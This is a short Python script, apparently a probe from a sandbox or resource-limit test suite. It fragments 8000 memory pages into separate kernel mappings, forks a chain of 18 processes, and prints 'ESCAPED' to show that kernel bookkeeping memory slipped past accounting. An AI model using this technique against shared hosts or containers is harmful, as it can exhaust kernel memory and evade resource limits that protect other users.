"""Have the kernel note for each small piece of memory which of a chain of processes may share it
Each piece counts as what its description takes, and more for each process that its own descends from
"""
import mmap
import time

from tries import *

PAGE, PIECES, CHAIN = 4096, 8000, 18
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
READ, READ_WRITE, PRIVATE_ANONYMOUS = 1, 3, 0x22
start = libc.mmap(None, PIECES * PAGE, READ_WRITE, PRIVATE_ANONYMOUS, -1, 0)
for page in range(0, PIECES, 2):
    ctypes.memset(start + page * PAGE, 1, 1)
    libc.mprotect(start + (page + 1) * PAGE, PAGE, READ)
for _ in range(CHAIN):
    if os.fork():
        break
time.sleep(20)
print("ESCAPED: a chain of", CHAIN, "processes with", PIECES, "pieces each")
